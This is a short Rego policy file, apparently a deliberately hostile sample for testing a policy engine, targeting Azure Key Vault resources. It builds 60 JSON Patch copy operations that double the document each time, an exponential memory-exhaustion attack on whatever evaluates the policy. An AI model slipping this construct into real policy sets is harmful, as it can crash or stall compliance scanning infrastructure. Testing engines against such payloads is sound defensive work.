# METADATA
# title: A policy that harms
# custom:
#   severity: high
#   resource_types: [microsoft.keyvault/vaults]
package contoso.hostile

default healthy := false

steps := [{"op": "copy", "from": "", "path": sprintf("/a%d", [n])} | some n in numbers.range(1, 60)]

healthy if {
	input.type
	json.marshal(json.patch({"x": 1}, steps)) == ""
}
